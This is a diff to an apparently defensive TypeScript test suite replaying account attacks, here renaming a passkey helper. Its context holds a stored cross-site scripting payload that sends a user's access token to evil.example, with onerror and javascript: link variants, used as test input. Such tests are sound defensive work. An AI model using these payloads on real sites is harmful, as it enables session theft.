@@ -13,7 +13,7 @@ import {
   type TestUser,
 } from "../support/people.ts";
 import { requirePresent } from "../support/require-present.ts";
-import { registerPasskey } from "../samples/software-authenticator.ts";
+import { addPasskey } from "../calls/second-factor-acts.ts";
 import { ATTACKER_ADDRESS, readPasswordHash, type Replay, signInAs } from "./replay.ts";
 
 const NEW_PASSWORD = "Zk7!mQ2x";
@@ -104,7 +104,7 @@ export const administratorTakeover: Replay = {
   async play({ refuse, holds }) {
     const vars = { ...env, SECOND_FACTOR: "required" as const };
     const admin = await createAdministratorSession();
-    await registerPasskey(admin);
+    await addPasskey(admin);
     const member = await createMemberSession();
     const script = `<p>안내</p><script>fetch("//evil.example/"+localStorage.accessToken)</script><img src="x" onerror="alert(1)"><a href="javascript:alert(1)">열기</a>`;
     const itemNo = await createTestItem(member, "free", { content: script });
@@ -184,7 +184,7 @@ export const stuffedSignin: Replay = {
     "Failures are counted by network address and leave each account three tries there; unknown accounts have their own limit. A right password passes, because an address is often a hospital; an administrator's password alone opens nothing, and an owner gets a message about ten failures.",
   async play({ refuse, holds }) {
     const admin = await createAdministratorSession();
-    await registerPasskey(admin);
+    await addPasskey(admin);
     const reused = await createUser({ userName: "재사용" });
     await leaveOfLimit(20, "signinFailureAddress", ATTACKER_ADDRESS);
     await leaveOfLimit(40, "lookupAddress", "198.51.100.67");
